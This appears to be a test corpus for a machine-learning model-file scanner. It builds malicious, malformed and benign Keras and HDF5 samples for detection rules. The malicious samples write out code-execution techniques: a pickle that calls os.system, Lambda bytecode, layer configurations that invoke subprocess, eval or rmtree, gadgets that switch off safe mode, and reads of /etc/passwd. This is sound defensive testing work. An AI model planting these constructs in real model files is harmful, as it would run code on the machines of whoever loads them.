"""Keras models: code in layers, modules that are imported, functions that reach outside."""

from __future__ import annotations

import json
import pickle
from collections.abc import Callable
from functools import partial
from pathlib import Path
from typing import Any

import h5py

from aiverify.core.facts import State
from tests.corpus.sample import Label, Sample
from tests.support.keras_files import (
    CODE,
    METADATA,
    PAYLOAD,
    bytecode,
    function,
    h5_model_bytes,
    hdf5_bytes,
    keras_bytes,
    layer,
    model,
    old_model,
    patched,
    weights_bytes,
    zip_bytes,
)

LAMBDA, MODULE, GADGET = "AIV-KERAS-LAMBDA", "AIV-KERAS-MODULE", "AIV-KERAS-GADGET"
PICKLE, PATH, CUSTOM = "AIV-KERAS-PICKLE", "AIV-KERAS-PATH", "AIV-KERAS-CUSTOM"
MEMBER, MALFORMED_RULE = "AIV-KERAS-MEMBER", "AIV-FORMAT-MALFORMED"
REAL = Path(__file__).parent.parent / "assets" / "real"
DENSE = layer("Dense", units=2, activation="relu")
OLD_LAMBDA = {"function": [CODE, None, None], "function_type": "lambda", "module": "__main__"}


class _Runs:
    def __reduce__(self) -> tuple[Any, tuple[str]]:
        import os

        return os.system, (PAYLOAD,)


RUNS = pickle.dumps(_Runs(), 2)


def called(module: str, name: str, *arguments: Any, **more: Any) -> dict[str, Any]:
    """A function in the place of a layer, and what it is called with (CVE-2025-1550)."""
    return {
        **function(module, name),
        "name": "layer",
        "inbound_nodes": [{"args": list(arguments), "kwargs": more}],
    }


def old(class_name: str, **config: Any) -> dict[str, Any]:
    return {"class_name": class_name, "config": config}


def wrapped(inner: Any) -> dict[str, Any]:
    return layer("TimeDistributed", layer=layer("Bidirectional", layer=inner))


def padded(inner: Any) -> dict[str, Any]:
    """A model whose code stands behind what a scanner may stop at."""
    return model(*[layer("Dense", units=1, note="x" * 500) for _ in range(200)], inner)


def dense_attributes() -> bytes:
    """A configuration in a heap, where libhdf5 puts the attributes of the newest files."""

    def fill(file: Any) -> None:
        for index in range(20):
            file.attrs[f"note{index}"] = "x" * 50
        config = old_model(old("Lambda", **OLD_LAMBDA), *[old("Dense", note="x" * 90)] * 900)
        file.attrs["model_config"] = json.dumps(config).encode()

    return hdf5_bytes(fill, libver="latest")


def external_weights() -> bytes:
    def fill(file: Any) -> None:
        file["layers/dense/vars"] = h5py.ExternalLink("/etc/shadow.h5", "/")

    return hdf5_bytes(fill)


def two_configs() -> bytes:
    """The first is honest, and the last, which Python's zipfile takes, is not."""
    members = {
        "config.json": json.dumps(model(DENSE)).encode(),
        "metadata.json": json.dumps(METADATA).encode(),
        "model.weights.h5": weights_bytes(),
        "konfig.json": json.dumps(model(layer("Lambda", function=bytecode()))).encode(),
    }
    return patched(zip_bytes(members), b"konfig.json", b"config.json", count=2)


def archive(**changes: bytes | None) -> bytes:
    members: dict[str, bytes | None] = {
        "metadata.json": json.dumps(METADATA).encode(),
        "config.json": json.dumps(model(DENSE)).encode(),
        "model.weights.h5": weights_bytes(),
    }
    members |= {name.replace("__", "/").replace("_", "."): data for name, data in changes.items()}
    return zip_bytes({name: data for name, data in members.items() if data is not None})


def _new(name: str, technique: str, config: Any, rule: str) -> Sample:
    make = partial(keras_bytes, config)
    return Sample(f"keras/{name}", Label.MALICIOUS, technique, "m.keras", make, rule)


def _old(name: str, technique: str, config: Any, rule: str, training: Any = None) -> Sample:
    make = partial(h5_model_bytes, config, training)
    return Sample(f"keras/{name}", Label.MALICIOUS, technique, "m.h5", make, rule)


def _made(
    name: str, technique: str, make: Callable[[], bytes], rule: str, label: Label = Label.MALICIOUS
) -> Sample:
    return Sample(f"keras/{name}", label, technique, "m.keras", make, rule)


IN_ARCHIVES = (
    _new(
        "class-as-function",
        "a layer's class where a function is due, so that nobody asks whether it is safe",
        model(layer("Lambda", function=function("keras.layers", "TFSMLayer"))),
        GADGET,
    ),
    _new(
        "proto-path",
        "a tokenizer that reads a file of the machine's",
        model(layer("SentencePieceTokenizer", proto="/etc/passwd")),
        PATH,
    ),
    _new(
        "lambda", "bytecode in a Lambda layer", model(layer("Lambda", function=bytecode())), LAMBDA
    ),
    _new(
        "lambda-shape",
        "bytecode for a shape",
        model(layer("Lambda", function=function("keras.ops", "abs"), output_shape=bytecode())),
        LAMBDA,
    ),
    _new(
        "lambda-wrapped",
        "within wrappers",
        model(wrapped(layer("Lambda", function=bytecode()))),
        LAMBDA,
    ),
    _new(
        "lambda-nested",
        "within a model",
        model(model(layer("Lambda", function=bytecode()))),
        LAMBDA,
    ),
    _new(
        "lambda-padded", "behind 200 layers", padded(layer("Lambda", function=bytecode())), LAMBDA
    ),
    _new(
        "lambda-activation",
        "as an activation",
        model(layer("Dense", activation=bytecode())),
        LAMBDA,
    ),
    _new("lambda-loss", "as a loss", model(DENSE, compile_config={"loss": bytecode()}), LAMBDA),
    _new(
        "lambda-value",
        "bytecode as Keras 3 writes it outside of layers",
        model(layer("Dense", activation={"class_name": "__lambda__", "config": {"value": CODE}})),
        LAMBDA,
    ),
    _new("popen", "CVE-2025-1550", model(called("subprocess", "Popen", ["touch", "x"])), MODULE),
    _new("system", "os.system", model(called("os", "system", PAYLOAD)), MODULE),
    _new("eval", "a function of Python's own", model(called("builtins", "eval", "1")), MODULE),
    _new("builtin-class", "the same as a class", model(layer("exec", "builtins")), MODULE),
    _new(
        "class-of-module",
        "a class of the standard library",
        model(layer("Popen", "subprocess", args=["touch"])),
        MODULE,
    ),
    _new(
        "import-alone",
        "a module for what its import does, under a name as if it were registered",
        model({**layer("Layer", "antigravity"), "registered_name": "my_package>Layer"}),
        MODULE,
    ),
    _new(
        "third-party",
        "a function of a package that is often there",
        model(called("numpy.f2py.diagnose", "run_command", PAYLOAD)),
        MODULE,
    ),
    _new(
        "module-as-metric",
        "in the compile configuration",
        model(DENSE, compile_config={"metrics": [function("os", "system")]}),
        MODULE,
    ),
    _new(
        "module-in-regularizer",
        "deep in a layer",
        model(layer("Dense", kernel_regularizer=function("shutil", "rmtree"))),
        MODULE,
    ),
    _new(
        "typespec",
        "as a type of tensor",
        model(
            layer(
                "Dense",
                spec={
                    "class_name": "__typespec__",
                    "spec_name": "system",
                    "module": "os",
                    "registered_name": None,
                    "config": [],
                },
            )
        ),
        MODULE,
    ),
    _new(
        "get-file",
        "CVE-2025-8747",
        model(called("keras.utils", "get_file", "m", origin="http://localhost/m")),
        GADGET,
    ),
    _new(
        "get-file-class",
        "the same as a class",
        model(layer("get_file", "keras.utils")),
        GADGET,
    ),
    _new(
        "get-file-inside",
        "the same from the module that imports it",
        model(called("keras.src.applications.vgg16", "file_utils.get_file")),
        GADGET,
    ),
    _new(
        "unsafe",
        "CVE-2025-9906",
        model(called("keras.config", "enable_unsafe_deserialization")),
        GADGET,
    ),
    _new(
        "global-attribute",
        "safe mode by the variable behind it",
        model(
            called(
                "keras.src.backend.common.global_state",
                "set_global_attribute",
                "safe_mode_saving",
                value=False,
            )
        ),
        GADGET,
    ),
    _new(
        "load-model",
        "a second model, without safe mode",
        model(
            layer(
                "Lambda",
                function=function("keras.models", "load_model"),
                arguments={"safe_mode": False},
            )
        ),
        GADGET,
    ),
    _new(
        "deserialize",
        "a function that makes anything of a configuration",
        model(called("keras.layers", "deserialize", {"class_name": "X"})),
        GADGET,
    ),
    _new(
        "save-img",
        "a function that writes a file",
        model(called("keras.utils", "save_img", "x")),
        GADGET,
    ),
    _new(
        "dataset",
        "a function that fetches",
        model(called("keras.datasets.mnist", "load_data")),
        GADGET,
    ),
    _new(
        "func-load",
        "the function that loads bytecode",
        model(called("keras.src.utils.python_utils", "func_load", CODE)),
        GADGET,
    ),
    _new(
        "torch-module",
        "CVE-2025-49655",
        model(layer("TorchModuleWrapper", module="gAJjb3MKc3lzdGVt")),
        PICKLE,
    ),
    _new("tfsm", "another program", model(layer("TFSMLayer", filepath="/nonexistent/m")), PATH),
    _new(
        "vocabulary",
        "CVE-2025-12058, a file of the machine",
        model(layer("StringLookup", vocabulary="/etc/passwd")),
        PATH,
    ),
    _new(
        "vocabulary-fetched",
        "an address",
        model(layer("TextVectorization", vocabulary="https://localhost/v.txt")),
        PATH,
    ),
    _new(
        "vocabulary-metadata",
        "a cloud's address",
        model(layer("IntegerLookup", vocabulary="gs://bucket/v.txt")),
        PATH,
    ),
    _made(
        "external-weights",
        "weights that lie in another file",
        lambda: keras_bytes(model(DENSE), external_weights()),
        "AIV-HDF5-EXTERNAL",
    ),
    _made(
        "asset-pickle",
        "a pickle among the assets",
        lambda: keras_bytes(model(DENSE), **{"state.txt": RUNS}),
        "AIV-PICKLE-DANGEROUS",
    ),
    _made(
        "member-pickle",
        "a pickle beside the weights",
        lambda: archive(extra_pkl=RUNS),
        "AIV-PICKLE-DANGEROUS",
    ),
    _made("two-configs", "two configurations", two_configs, LAMBDA),
    _made(
        "traversal",
        "an asset that leads out",
        lambda: keras_bytes(model(DENSE), **{"../../x": b"x"}),
        "AIV-CONTAINER-NAME",
    ),
    _made(
        "disguised",
        "a model in HDF5 under the newer name",
        partial(h5_model_bytes, old_model(old("Lambda", **OLD_LAMBDA))),
        LAMBDA,
    ),
    _made("pickle", "a pickle under the name", lambda: RUNS, "AIV-PICKLE-DANGEROUS"),
    Sample(
        "keras/renamed",
        Label.MALICIOUS,
        "a model under another name",
        "data.bin",
        partial(keras_bytes, model(layer("Lambda", function=bytecode()))),
        LAMBDA,
    ),
)

IN_HDF5 = (
    _old("old-lambda", "CVE-2024-3660", old_model(old("Lambda", **OLD_LAMBDA)), LAMBDA),
    _old(
        "old-lambda-text",
        "bytecode alone",
        old_model(old("Lambda", function=CODE, function_type="lambda")),
        LAMBDA,
    ),
    _old(
        "old-lambda-untyped",
        "without the type, which Keras 3 does not ask for",
        old_model(old("Lambda", function=[CODE, None, None])),
        LAMBDA,
    ),
    _old(
        "old-lambda-shape",
        "bytecode for a shape",
        old_model(old("Lambda", function="relu", output_shape=[CODE, None, None])),
        LAMBDA,
    ),
    _old(
        "old-lambda-registered",
        "under the name of a package",
        old_model(old("Custom>Lambda", **OLD_LAMBDA)),
        LAMBDA,
    ),
    _old("new-in-old", "CVE-2025-9905", model(layer("Lambda", function=bytecode())), LAMBDA),
    _old(
        "old-lambda-module",
        "a function of a module by name",
        old_model(old("Lambda", function="system", function_type="function", module="os")),
        MODULE,
    ),
    _old(
        "old-training",
        "in the training's configuration",
        old_model(),
        LAMBDA,
        {"loss": bytecode(), "optimizer_config": old("Adam")},
    ),
    _old(
        "tf-read",
        "a TensorFlow function that reads files",
        old_model(old("TFOpLambda", function="io.read_file")),
        GADGET,
    ),
    _old(
        "tf-raw",
        "a raw operation that writes files",
        old_model(old("TFOpLambda", function="raw_ops.WriteFile")),
        GADGET,
    ),
    _old(
        "tf-python",
        "Python by way of TensorFlow",
        old_model(old("TFOpLambda", function="compat.v1.py_func")),
        GADGET,
    ),
    _old(
        "tf-library",
        "native code by way of TensorFlow",
        old_model(old("TFOpLambda", function="load_op_library")),
        GADGET,
    ),
    _old(
        "tf-operation",
        "an operation of the graph's",
        old_model(old("TensorFlowOpLayer", node_def='{"name": "x", "op": "WriteFile"}')),
        GADGET,
    ),
    Sample(
        "keras/dense-config",
        Label.MALICIOUS,
        "a configuration in a fractal heap",
        "m.h5",
        dense_attributes,
        LAMBDA,
    ),
)

MALFORMED = (
    _made(
        "no-config", "no configuration", lambda: archive(config_json=None), MEMBER, Label.MALFORMED
    ),
    _made(
        "no-weights",
        "no weights",
        lambda: archive(**{"model.weights.h5": None}),
        MEMBER,
        Label.MALFORMED,
    ),
    _made("member", "a member too many", lambda: archive(notes__a=b"x"), MEMBER, Label.MALFORMED),
    _made("text", "no JSON", lambda: keras_bytes(b"{"), MALFORMED_RULE, Label.MALFORMED),
    _made(
        "twice",
        "a key twice",
        lambda: keras_bytes(b'{"class_name": "Sequential", "class_name": "Lambda"}'),
        MALFORMED_RULE,
        Label.MALFORMED,
    ),
    _made(
        "nested",
        "brackets without end",
        lambda: keras_bytes(b"[" * 100_000),
        MALFORMED_RULE,
        Label.MALFORMED,
    ),
    _made("cut", "cut off", lambda: archive()[:-30], MALFORMED_RULE, Label.MALFORMED),
    _made("other", "another content", lambda: b"\x01\x02\xfe" * 9, MALFORMED_RULE, Label.MALFORMED),
    _made(
        "weights",
        "weights that are cut off",
        lambda: keras_bytes(model(DENSE), weights_bytes()[:-50]),
        MALFORMED_RULE,
        Label.MALFORMED,
    ),
    Sample(
        "keras/bytes",
        Label.MALFORMED,
        "a configuration that is no JSON",
        "m.h5",
        lambda: hdf5_bytes(lambda file: file.attrs.__setitem__("model_config", "{,}")),
        MALFORMED_RULE,
    ),
)

FINE = {
    "module": "my_package.layers",
    "class_name": "MyLayer",
    "config": {},
    "registered_name": "my_package>MyLayer",
}

BENIGN = (
    *(
        Sample(
            f"keras/{name}",
            Label.BENIGN,
            "keras",
            name,
            (REAL / name).read_bytes,
            state=State.CLEAN,
        )
        for name in (
            "functional-nested.keras",
            "functional-nested.h5",
            "sequential.h5",
            "vocabulary.keras",
        )
    ),
    Sample(
        "keras/old-and-honest",
        Label.BENIGN,
        "a model of Keras 2 with TensorFlow's functions",
        "m.h5",
        partial(
            h5_model_bytes,
            old_model(
                old("TFOpLambda", function="math.reduce_mean"),
                old("TFOpLambda", function="__operators__.add"),
                old("TFOpLambda", function="compat.v1.shape"),
                old("SlicingOpLambda", function="__operators__.getitem"),
                old("TFOpLambda", function="keras.backend.mean"),
                old("TensorFlowOpLayer", node_def='{"name": "x", "op": "AddV2"}'),
                old("Bidirectional", layer=old("LSTM", units=3, activation="tanh")),
            ),
        ),
        state=State.CLEAN,
    ),
    Sample(
        "keras/internals",
        Label.BENIGN,
        "classes and functions from inside of Keras",
        "m.keras",
        partial(
            keras_bytes,
            model(
                layer("Functional", "keras.src.models.functional", layers=[]),
                layer("Add", "keras.src.ops.numpy"),
                layer("Dense", "tf_keras.layers", dtype=layer("Policy", "keras.mixed_precision")),
                layer("Dense", "tensorflow.keras.layers", activation=function("builtins", "relu")),
                layer("Backbone", "keras_hub.src.models.backbone"),
                layer("Activation", activation=function("keras.ops.nn", "silu")),
                layer("ReLU", max_value=float("inf"), threshold=float("nan")),
            ),
        ),
        state=State.CLEAN,
    ),
    Sample(
        "keras/custom",
        Label.BENIGN,
        "a registered layer",
        "m.keras",
        partial(keras_bytes, model(FINE)),
    ),
    Sample(
        "keras/vocabulary-beside",
        Label.BENIGN,
        "a vocabulary by a plain name",
        "m.keras",
        partial(keras_bytes, model(layer("StringLookup", vocabulary="vocab.txt"))),
    ),
)

SAMPLES: tuple[Sample, ...] = IN_ARCHIVES + IN_HDF5 + MALFORMED + BENIGN
